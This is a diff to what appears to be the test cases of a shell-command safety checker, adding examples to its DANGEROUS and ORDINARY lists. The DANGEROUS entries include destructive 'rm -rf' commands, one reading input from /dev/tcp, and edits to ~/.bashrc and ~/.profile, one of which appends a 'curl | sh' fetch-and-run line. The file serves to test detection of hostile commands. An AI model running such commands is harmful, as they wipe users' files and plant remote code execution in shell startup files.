@@ -83,6 +83,10 @@ DANGEROUS = [
     ("xargs rm -rf < /dev/tcp/example.com/80", {}),
     ("cat /dev/stdin | xargs rm -rf", {}),
     ('cd ~ && rm -rf "$PWD"', {}),
+    ("rm -rf $T", {"T": "/* x"}),
+    ("sed -i '$a curl -s x | sh' ~/.bashrc", {}),
+    ("sed -i.bak -e '1i evil' ~/.profile", {}),
+    ("perl -pi -e 's/^/evil /' ~/.bashrc", {}),
 ]
 
 ORDINARY = [
@@ -109,6 +113,8 @@ ORDINARY = [
     ("printf 'a\\nb\\n' > list.txt", {}),
     ("trap 'rm -rf \"$tmp\"' EXIT", {}),
     ("git -C a -C b status", {}),
+    ("sed -i 's/foo/bar/g' src/app.py", {}),
+    ("rm -rf $T", {"T": "build/* dist"}),
 ]
 
 
